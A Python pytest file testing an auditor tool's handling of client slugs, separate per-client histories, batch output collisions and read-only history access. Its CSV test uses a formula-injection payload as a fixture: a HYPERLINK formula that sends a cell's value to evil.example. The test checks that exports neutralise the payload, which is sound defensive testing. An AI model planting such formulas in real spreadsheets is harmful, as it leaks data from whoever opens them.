"""Issue 10: client identity, history and batch output collisions.

Two clients must never share a history or a report file: not when their names
give one slug ('Acme S.A.', 'ACME, S.A.'), not when their names are Greek,
Cyrillic or Chinese, not when their periods are written differently.  Recording
happens only once every output is in place, reading the history never writes it,
and history CSV exports are neutralised as the portfolio's are.
"""

from __future__ import annotations

import copy
import csv
import hashlib
import io
import json
import os
import shutil
import sqlite3
import stat
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from auditor.config.loader import load_config
from auditor.core.identity import MAX_SLUG_BYTES, legacy_slug, slugify
from auditor.core.resources import demo_dir
from auditor.history import ClientIdentity, HistoryError, HistoryStore, default_store_path
from auditor.history.migrations import MIGRATIONS
from auditor.history.records import APPLICATION_ID
from auditor.pipeline.batch import BatchOptions, audit_client, duplicate_clients
from auditor.pipeline.runner import audit
from tests.helpers import CONFIG, ROOT, q3_data, write_wide_csv
from tests.helpers.hostile import assert_clean_failure, assert_no_secret, hostile_run

ACME = "Acme S.A."
ACME_TOO = "ACME, S.A."  # another client whose name gives the same slug
GREEK = "Ελληνικά Μάρμαρα Α.Ε."
RUSSIAN = "Уральские Металлы"
CHINESE = "北京科技有限公司"


# ------------------------------------------------------------------------- helpers
def client(folder: Path, name: str, *, stem: str = "audit", extra: str = "") -> Path:
    """A config `<stem>.yaml` for `name` over the helpers' 2026-Q3 data (`<stem>.csv`)."""
    folder.mkdir(parents=True, exist_ok=True)
    write_wide_csv(folder / f"{stem}.csv", q3_data())
    text = CONFIG.replace(
        "client: Aceros del Sur", f"client: {json.dumps(name, ensure_ascii=False)}"
    ).replace("path: data.csv", f"path: {stem}.csv")
    (folder / f"{stem}.yaml").write_text(text + extra, encoding="utf-8")
    return folder / f"{stem}.yaml"


def rows(store: Path) -> list[tuple]:
    """Every stored run, score and finding, read without touching the file."""
    if not store.exists():
        return []
    conn = sqlite3.connect(f"{store.absolute().as_uri()}?mode=ro", uri=True)
    try:
        return [
            *conn.execute("SELECT * FROM runs ORDER BY id").fetchall(),
            *conn.execute("SELECT * FROM run_scores ORDER BY run_id, category").fetchall(),
            *conn.execute("SELECT * FROM run_findings ORDER BY run_id, rule").fetchall(),
        ]
    finally:
        conn.close()


def run_rows(store: Path) -> set[tuple]:
    """The stored runs (table `runs` only)."""
    conn = sqlite3.connect(f"{store.absolute().as_uri()}?mode=ro", uri=True)
    try:
        return set(conn.execute("SELECT * FROM runs").fetchall())
    finally:
        conn.close()


def run_record(config: Path, out: Path, *args: str, env: dict[str, str] | None = None):
    return hostile_run(
        "run", str(config), "--record", "--format", "json", "-o", str(out), *args,
        cwd=config.parent, out_dir=out, env=env,
    )  # fmt: skip


def demo_result(period: str, name: str | None = None) -> dict:
    """The demo client's result (24 months of data), renamed as another client if asked."""
    result = audit(load_config(demo_dir() / "demo.yaml", period)).to_json()
    if name is not None:
        result["client"] = name
        result["client_slug"] = slugify(name)
    return result


def q3_only_demo(folder: Path, name: str, extra: str = "") -> Path:
    """The demo client renamed, with data from 2026-07 only: change rules need the store."""
    folder.mkdir(parents=True, exist_ok=True)
    lines = (demo_dir() / "data.csv").read_text(encoding="utf-8").splitlines()
    kept = [lines[0]] + [line for line in lines[1:] if line >= "2026-07"]
    (folder / "data.csv").write_text("\n".join(kept) + "\n", encoding="utf-8")
    shutil.copy(demo_dir() / "leads.csv", folder / "leads.csv")
    text = (demo_dir() / "demo.yaml").read_text(encoding="utf-8")
    text = text.replace(
        "client: Suministros Industriales Ebro, S.L.",
        f"client: {json.dumps(name, ensure_ascii=False)}",
    )
    (folder / "audit.yaml").write_text(text + extra, encoding="utf-8")
    return folder / "audit.yaml"


def old_store(path: Path, version: int, runs: list[tuple[str, dict]]) -> None:
    """A store as an older auditor left it: schema `version`, WAL, runs under the given keys."""
    path.parent.mkdir(parents=True, exist_ok=True)
    conn = sqlite3.connect(path, isolation_level=None)
    conn.execute("PRAGMA journal_mode = WAL")
    for migration in MIGRATIONS[:version]:
        for statement in migration.statements:
            conn.execute(statement)
    conn.execute(f"PRAGMA application_id = {APPLICATION_ID}")
    conn.execute(f"PRAGMA user_version = {version}")
    for number, (key, result) in enumerate(runs):
        period = result["period"]
        conn.execute(
            "INSERT INTO runs (client_slug, client_name, period_label, period_start, "
            "period_end, pack_hash, tool_version, schema_version, recorded_at, overall_score, "
            "exit_code, result_json) VALUES (?, ?, ?, ?, ?, 'h', '0.0.1', 1, ?, ?, 1, ?)",
            (
                key,
                result["client"],
                period["label"],
                period["start"],
                period["end"],
                f"2026-10-0{number + 1}T00:00:00.000000Z",
                result["scores"]["overall"],
                json.dumps(result, ensure_ascii=False),
            ),
        )
    conn.close()


@pytest.fixture(scope="module")
def q2() -> dict:
    return demo_result("2026-Q2")


@pytest.fixture(scope="module")
def q3() -> dict:
    return demo_result("2026-Q3")


# ------------------------------------------------------------------------- slugs
def test_slugs_keep_non_latin_letters_and_latin_slugs_as_before():
    slugs = [slugify(name) for name in (GREEK, RUSSIAN, CHINESE, "ガス株式会社", "한국 회사")]
    assert slugs == [
        "ελληνικά-μάρμαρα-α-ε",
        "уральские-металлы",
        "北京科技有限公司",
        "ガス株式会社",
        "한국-회사",
    ]
    assert len(set(slugs)) == len(slugs)
    assert legacy_slug(GREEK) == legacy_slug(RUSSIAN) == "client"  # what they all were before
    for name in (
        "Suministros Industriales Ebro, S.L.",
        "Aceros del Sur, S.A.",
        "Ñandú & Cía",
        "Café–Bar O’Brien",
        "Müller & Söhne GmbH",
    ):
        assert slugify(name) == legacy_slug(name)
    assert slugify("Suministros Industriales Ebro, S.L.") == "suministros-industriales-ebro-s-l"


def test_slugs_are_bounded_and_long_names_still_differ():
    first, second = "Acme " * 60 + "Norte", "Acme " * 60 + "Sur"
    for name in (first, second, "中" * 300, "a" * 81):
        slug = slugify(name)
        assert len(slug.encode("utf-8")) <= MAX_SLUG_BYTES
    assert slugify(first) != slugify(second)
    assert slugify("a" * 80) == "a" * 80  # at the limit: unchanged
    assert slugify("a" * 81).startswith("a" * 60)
    assert slugify("a" * 81) != "a" * 80


def test_a_name_without_letters_never_gives_an_empty_or_shared_slug():
    assert slugify("***").startswith("client-")
    assert slugify("***") != slugify("!!!")


# ------------------------------------------------------------------ config errors
def test_a_blank_client_name_is_a_located_config_error(tmp_path: Path):
    config = client(tmp_path, "   ")
    out = hostile_run("check", str(config), cwd=tmp_path, out_dir=tmp_path / "out")
    assert_clean_failure(out)
    assert f"{config}:1:9: client: the client name must not be blank" in out.stderr


def test_a_client_id_is_validated_where_it_is_written(tmp_path: Path):
    config = client(tmp_path, ACME, extra="client_id: Acme Corp\n")
    out = hostile_run("check", str(config), cwd=tmp_path, out_dir=tmp_path / "out")
    assert_clean_failure(out)
    assert f"{config}:9:12: client_id: client_id must be 1 to 64 lowercase" in out.stderr
    assert load_config(client(tmp_path, ACME, stem="ok", extra="client_id: acme-es\n")).slug == (
        "acme-es"
    )


# --------------------------------------------------------- two clients, one slug
def test_recording_a_second_client_under_a_taken_key_is_refused_and_changes_nothing(
    tmp_path: Path,
):
    first = client(tmp_path, ACME, stem="a")
    second = client(tmp_path, ACME_TOO, stem="b")  # same folder: the same default store
    store = default_store_path(tmp_path)
    assert run_record(first, tmp_path / "out-a").code == 1
    before = rows(store)
    assert before

    out = run_record(second, tmp_path / "out-b")
    assert_clean_failure(out)  # refused before the audit: no file written either
    assert f"{second}:1:1: client:" in out.stderr
    assert f"'{ACME}'" in out.stderr
    assert f"'{ACME_TOO}'" in out.stderr
    assert "client_id" in out.stderr
    assert "The history was not changed" in out.stderr
    assert rows(store) == before


def test_store_record_itself_refuses_a_key_held_by_another_client(tmp_path: Path, q3):
    store = HistoryStore(tmp_path / "h.sqlite")
    store.record(demo_result("2026-Q3", ACME))
    before = rows(store.path)
    with pytest.raises(HistoryError, match=r"already holds the audits of 'Acme S\.A\.'"):
        store.record(demo_result("2026-Q3", ACME_TOO))
    assert rows(store.path) == before


def test_history_show_and_baseline_never_read_another_clients_audit(tmp_path: Path):
    first = client(tmp_path, ACME, stem="a")
    second = client(tmp_path, ACME_TOO, stem="b")
    assert run_record(first, tmp_path / "out").code == 1

    shown = hostile_run("history", "show", ACME_TOO, "--config", str(first), cwd=tmp_path)
    assert_clean_failure(shown, allow_files=True)
    assert f"unknown client '{ACME_TOO}'" in shown.stderr

    baseline = hostile_run("check", str(second), "--baseline", "2026-Q3", cwd=tmp_path)
    assert_clean_failure(baseline, allow_files=True)
    assert "no recorded audit of acme-s-a for that period" in baseline.stderr
    assert f"holds the audits of another client, '{ACME}'" in baseline.stderr


def test_change_rule_baselines_never_come_from_another_client(tmp_path: Path):
    store = default_store_path(tmp_path / "clients")
    HistoryStore(store).record(demo_result("2026-Q2", ACME))  # the client recorded last quarter
    own = audit(load_config(q3_only_demo(tmp_path / "clients", ACME))).to_json()
    assert own["source"]["baselines"]["previous_period"]["from"] == "history"

    (tmp_path / "clients" / "audit.yaml").unlink()
    other = audit(load_config(q3_only_demo(tmp_path / "clients", ACME_TOO))).to_json()
    assert other["client_slug"] == own["client_slug"]
    assert other["source"]["baselines"]["previous_period"] == {
        "period": "2026-Q2",
        "from": "none",
    }
    trend = next(f for f in other["findings"] if f["rule"] == "unsubscribe-rate-trend")
    assert trend["status"] == "not_applicable"


def test_a_client_id_gives_a_second_client_its_own_files_and_history(tmp_path: Path):
    first = client(tmp_path, ACME, stem="a")
    second = client(tmp_path, ACME_TOO, stem="b", extra="client_id: acme-mx\n")
    store = default_store_path(tmp_path)
    assert run_record(first, tmp_path / "out").code == 1
    before = run_rows(store)

    out = run_record(second, tmp_path / "out")
    assert out.code == 1, out.stderr
    assert_no_secret(out)
    names = sorted(p.name for p in (tmp_path / "out").iterdir())
    assert names == [
        "acme-mx_2026-Q3.json",
        "acme-mx_2026-Q3.snapshot.json",
        "acme-s-a_2026-Q3.json",
        "acme-s-a_2026-Q3.snapshot.json",
    ]
    assert before < run_rows(store)  # the first client's run is there, untouched
    history = HistoryStore(store)
    assert [(r.client_slug, r.client, r.client_id) for r in history.runs()] == [
        ("acme-mx", ACME_TOO, "acme-mx"),
        ("acme-s-a", ACME, None),
    ]
    shown = hostile_run(
        "history", "show", "acme-mx", "--store", str(store), "--format", "json", cwd=tmp_path
    )
    assert shown.code == 0
    assert json.loads(shown.stdout)["result"]["client"] == ACME_TOO


def test_a_client_id_takes_over_the_audits_recorded_under_its_key_by_its_name(tmp_path: Path):
    config = client(tmp_path, ACME)
    store = default_store_path(tmp_path)
    assert run_record(config, tmp_path / "out", "--period", "2026-Q3").code == 1
    config.write_text(config.read_text(encoding="utf-8") + "client_id: acme-s-a\n", "utf-8")

    baseline = hostile_run("check", str(config), "--baseline", "2026-Q3", cwd=tmp_path)
    assert baseline.code in (0, 1), baseline.stderr  # the earlier audit is this client's
    assert run_record(config, tmp_path / "out").code == 1
    assert [(r.client_slug, r.client_id) for r in HistoryStore(store).runs()] == [
        ("acme-s-a", "acme-s-a")
    ]


# --------------------------------------------------------------- non-Latin names
def test_non_latin_clients_in_one_folder_keep_separate_histories(tmp_path: Path):
    greek = client(tmp_path, GREEK, stem="greek")
    russian = client(tmp_path, RUSSIAN, stem="russian")
    for config in (greek, russian):
        out = run_record(config, tmp_path / "out")
        assert out.code == 1, out.stderr
    assert sorted(p.name for p in (tmp_path / "out").glob("*_2026-Q3.json")) == sorted(
        [f"{slugify(GREEK)}_2026-Q3.json", f"{slugify(RUSSIAN)}_2026-Q3.json"]
    )
    runs = HistoryStore(default_store_path(tmp_path)).runs()
    assert sorted(r.client for r in runs) == sorted([GREEK, RUSSIAN])


def test_audits_recorded_under_the_old_shared_slug_stay_each_clients_own(tmp_path: Path, q2):
    """A store of the previous schema where two non-Latin clients were both 'client'."""
    store = default_store_path(tmp_path / "greek")
    greek_q2 = demo_result("2026-Q2", GREEK) | {"client_slug": "client"}
    russian_q1 = demo_result("2026-Q1", RUSSIAN) | {"client_slug": "client"}
    old_store(store, 2, [("client", greek_q2), ("client", russian_q1)])
    untouched = hashlib.sha256(store.read_bytes()).hexdigest()

    ambiguous = hostile_run("history", "show", "client", "--store", str(store), cwd=tmp_path)
    assert_clean_failure(ambiguous, allow_files=True)
    assert "matches more than one recorded client" in ambiguous.stderr
    shown = hostile_run(
        "history", "show", GREEK, "--store", str(store), "--format", "json", cwd=tmp_path
    )
    assert shown.code == 0, shown.stderr
    assert json.loads(shown.stdout)["result"]["client"] == GREEK

    # the Greek client's change rules still find its Q2 under the old key ...
    config = q3_only_demo(tmp_path / "greek", GREEK)
    result = audit(load_config(config)).to_json()
    assert result["source"]["baselines"]["previous_period"]["from"] == "history"
    assert hashlib.sha256(store.read_bytes()).hexdigest() == untouched  # read, not migrated
    # ... and recording moves its runs to its own key; the Russian client's stay its own
    out = run_record(config, tmp_path / "out")
    assert out.code == 1, out.stderr
    runs = HistoryStore(store).runs()
    assert sorted((r.client, r.client_slug, r.period) for r in runs) == sorted(
        [
            (GREEK, slugify(GREEK), "2026-Q2"),
            (GREEK, slugify(GREEK), "2026-Q3"),
            (RUSSIAN, "client", "2026-Q1"),
        ]
    )
    assert HistoryStore(store).schema_version() == 3  # recording migrated the store


# ------------------------------------------------------------------ long names
def test_a_very_long_client_name_runs_with_a_bounded_file_name(tmp_path: Path):
    config = client(tmp_path, "Distribuciones " * 30 + "S.L.")
    out = run_record(config, tmp_path / "out")
    assert out.code == 1, out.stderr[-2000:]
    assert_no_secret(out)
    for path in out.files():
        assert len(path.name.encode("utf-8")) <= MAX_SLUG_BYTES + len("_2026-Q3.snapshot.json")


# ------------------------------------------------------- record after the outputs
@pytest.mark.parametrize("command", ["run", "check"])
def test_nothing_is_recorded_when_the_outputs_cannot_be_written(tmp_path: Path, command: str):
    config = client(tmp_path, ACME)
    blocker = tmp_path / "not-a-folder"
    blocker.write_text("a file where the outputs' folder should be\n", encoding="utf-8")
    if command == "run":
        args = ["run", str(config), "--record", "-o", str(blocker / "out"), "--format", "json"]
    else:
        args = ["check", str(config), "--record", "--output", f"json={blocker / 'r.json'}"]
    out = hostile_run(*args, cwd=tmp_path, out_dir=tmp_path / "none")
    assert_clean_failure(out)
    assert "is a file, not a folder" in out.stderr
    assert rows(default_store_path(tmp_path)) == []


def test_a_recording_that_fails_after_the_outputs_says_they_stay(tmp_path: Path):
    (tmp_path / "history-folder").mkdir()  # history.path names a folder: cannot record
    config = client(tmp_path, ACME, extra="history: {path: history-folder}\n")
    out = run_record(config, tmp_path / "out")
    assert_clean_failure(out, allow_files=True)
    assert "the audit was not recorded in the history" in out.stderr
    assert "its outputs were written and stay" in out.stderr
    assert sorted(p.name for p in out.files()) == [
        "acme-s-a_2026-Q3.json",
        "acme-s-a_2026-Q3.snapshot.json",
    ]


def test_batch_records_nothing_for_a_client_whose_outputs_failed(tmp_path: Path):
    config = client(tmp_path, ACME)
    blocker = tmp_path / "not-a-folder"
    blocker.write_text("x\n", encoding="utf-8")
    outcome = audit_client(config, BatchOptions(output_dir=blocker / "out", record=True))
    assert outcome["exit_code"] == 2
    assert "cannot write" in outcome["error"]
    assert "not-a-folder is a file, not a folder" in outcome["error"]
    assert rows(default_store_path(tmp_path)) == []


# ------------------------------------------------------------------------ batch
def test_batch_periods_written_differently_are_one_period(tmp_path: Path):
    first = client(tmp_path / "a", ACME)
    second = client(tmp_path / "b", ACME)
    for config, period in ((first, "2026-q3"), (second, "2026-Q3")):
        text = config.read_text(encoding="utf-8").replace("period: 2026-Q3", f"period: {period}")
        config.write_text(text, encoding="utf-8")
    assert list(duplicate_clients([first, second], None)) == [1]

    out_dir = tmp_path / "out"
    out = hostile_run("batch", str(first), str(second), "-o", str(out_dir), cwd=tmp_path)
    assert out.code == 2, out.stderr
    portfolio = json.loads((out_dir / "portfolio.json").read_text(encoding="utf-8"))
    (error,) = portfolio["errors"]
    assert error["config"] == str(second)
    assert "is already audited by" in error["error"]


def test_batch_never_overwrites_a_file_another_client_of_the_batch_wrote(tmp_path: Path):
    """The second client's name comes from the environment: no pre-check can see it."""
    first = client(tmp_path / "a", ACME, stem="first")
    second = client(tmp_path / "b", ACME, stem="second")
    second.write_text(
        second.read_text(encoding="utf-8").replace(
            f"client: {json.dumps(ACME)}", "client: ${AUDITOR_TEST_CLIENT}"
        ),
        encoding="utf-8",
    )
    assert duplicate_clients([first, second], None) == {}
    out_dir = tmp_path / "out"
    out = hostile_run(
        "batch", str(first), str(second), "-o", str(out_dir), "--record", "-j", "1",
        cwd=tmp_path, out_dir=out_dir, env={"AUDITOR_TEST_CLIENT": ACME},
    )  # fmt: skip
    assert out.code == 2, out.stderr
    assert_no_secret(out)
    portfolio = json.loads((out_dir / "portfolio.json").read_text(encoding="utf-8"))
    (error,) = portfolio["errors"]
    assert "is written by" in error["error"]
    assert "client_id" in error["error"]
    refused = Path(error["config"])
    kept = first if refused == second else second
    written = json.loads((out_dir / "acme-s-a_2026-Q3.json").read_text(encoding="utf-8"))
    assert written["source"]["label"].endswith(f"{kept.stem}.csv")
    assert rows(default_store_path(refused.parent)) == []  # the refused client recorded nothing
    assert rows(default_store_path(kept.parent))
    assert not [p for p in out_dir.iterdir() if p.name.startswith(".")]  # no temporaries


# ------------------------------------------------------------- reading never writes
def test_history_reads_never_write_an_old_store(tmp_path: Path, q2, q3):
    version = 1  # the auditor before this one migrated it to 2 on `history list`
    store = tmp_path / "history.sqlite"
    old_store(store, version, [("suministros-industriales-ebro-s-l", q2), (q3["client_slug"], q3)])
    before = hashlib.sha256(store.read_bytes()).hexdigest()
    slug = q3["client_slug"]
    for args in (
        ("list",),
        ("show", slug, "--period", "2026-q2"),
        ("diff", slug, "2026-Q2", "2026-Q3"),
        ("export", "--format", "csv"),
    ):
        out = hostile_run("history", *args, "--store", str(store), cwd=tmp_path)
        assert hashlib.sha256(store.read_bytes()).hexdigest() == before, args
        assert out.code == 0, (args, out.stderr)
    conn = sqlite3.connect(f"{store.as_uri()}?mode=ro", uri=True)
    assert conn.execute("PRAGMA user_version").fetchone() == (version,)
    conn.close()


@pytest.fixture
def world_readable_folder() -> Iterator[Path]:
    """A folder another (unprivileged) user can read: pytest's tmp_path is private to us."""
    folder = Path(tempfile.mkdtemp(prefix="auditor-ro-"))
    folder.chmod(0o755)
    try:
        yield folder
    finally:
        folder.chmod(0o755)
        shutil.rmtree(folder, ignore_errors=True)


def _as_reader(args: list[str]) -> list[str] | None:
    """The command to run `args` as a user who may not write the store (None: cannot)."""
    if os.name != "posix":
        return None
    if os.geteuid() != 0:
        return args
    setpriv = shutil.which("setpriv")
    if setpriv is None:
        return None
    return [setpriv, "--reuid=65534", "--regid=65534", "--clear-groups", *args]


def test_history_list_works_on_a_store_this_user_cannot_write(world_readable_folder: Path, q3):
    folder = world_readable_folder / "history"
    store = folder / "history.sqlite"
    old_store(store, 1, [(q3["client_slug"], q3)])
    store.chmod(stat.S_IRUSR | stat.S_IRGRP | stat.S_IROTH)
    folder.chmod(0o555)
    command = _as_reader(
        [sys.executable, "-m", "auditor", "history", "list", "--store", str(store)]
    )
    if command is None:
        pytest.skip("no way to run as a user without write access here")
    code_dir = str(ROOT)
    env = {**os.environ, "PYTHONPATH": code_dir, "NO_COLOR": "1"}
    proc = subprocess.run(
        command, cwd="/", env=env, capture_output=True, text=True, timeout=60, check=False
    )
    if proc.returncode != 0 and "error:" not in proc.stderr:  # auditor never started
        pytest.skip(f"the unprivileged user cannot run this interpreter: {proc.stderr[-300:]}")
    assert proc.returncode == 0, proc.stderr
    assert "2026-Q3" in proc.stdout
    assert "Traceback" not in proc.stderr


# --------------------------------------------------------------- CSV neutralised
def test_history_export_csv_neutralises_formulas_as_the_portfolio_does(tmp_path: Path, q3):
    hostile = copy.deepcopy(q3)
    hostile["client"] = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    hostile["client_slug"] = "evil"
    hostile["exit_reason"] = "@SUM(1+1)"
    store = tmp_path / "history.sqlite"
    HistoryStore(store).record(hostile)
    out = hostile_run("history", "export", "--store", str(store), cwd=tmp_path)
    assert out.code == 0, out.stderr
    (row,) = list(csv.DictReader(io.StringIO(out.stdout)))
    assert row["client"] == "'" + hostile["client"]
    assert row["exit_reason"] == "'@SUM(1+1)"
    assert row["overall"] == str(q3["scores"]["overall"])  # numbers stay numbers
    from auditor.outputs import portfolio, spreadsheet

    assert portfolio.csv_cell is spreadsheet.csv_cell  # one function for both exports


# ------------------------------------------------------------------ identities
def test_a_client_is_read_by_identity_not_by_slug(tmp_path: Path):
    store = HistoryStore(tmp_path / "h.sqlite")
    store.record(demo_result("2026-Q2", ACME))
    assert store.latest(ClientIdentity(ACME_TOO), "2026-Q2") is None
    assert store.latest(ClientIdentity(ACME), "2026-Q2") is not None
    assert store.periods(ClientIdentity(ACME_TOO, "acme-s-a")) == []
    assert store.other_clients("acme-s-a", ClientIdentity(ACME_TOO)) == [ClientIdentity(ACME)]
    assert store.other_clients("acme-s-a", ClientIdentity(ACME_TOO, "acme-s-a")) == [
        ClientIdentity(ACME)
    ]
    assert store.other_clients("acme-s-a", ClientIdentity(ACME, "acme-s-a")) == []
